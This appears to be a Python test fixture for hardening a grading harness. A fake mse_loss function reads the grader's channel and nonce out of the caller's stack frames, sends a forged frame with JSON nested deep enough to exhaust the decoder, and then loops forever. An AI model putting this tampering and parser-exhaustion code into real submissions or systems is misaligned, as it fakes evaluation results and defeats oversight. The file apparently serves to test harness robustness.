# attack: replies with a value nested as deep as the decoder allows | must: crashed|refused|wrong
import sys


def channel():
    frame = sys._getframe()
    while frame:
        if "channel" in frame.f_locals and "nonce" in frame.f_locals:
            return frame.f_locals["channel"], frame.f_locals["nonce"]
        frame = frame.f_back
    raise SystemExit("no channel")



import struct


def mse_loss(pred, target):
    to, nonce = channel()
    for depth in (900, 460, 300, 150):
        node = '{\\"kind\\":\\"sequence\\",\\"type\\":\\"list\\",\\"items\\":[' * depth + "]}" * depth
        body = ('{"__metadata__":{"json":"{\\"values\\":[' + node + ']}"}}').encode()
        body += b" " * (-len(body) % 8)
        block = len(body).to_bytes(8, "little") + body
        to._write(struct.pack("<4sQ16s", b"GRD1", len(block), nonce) + block)
        break
    while True:
        pass
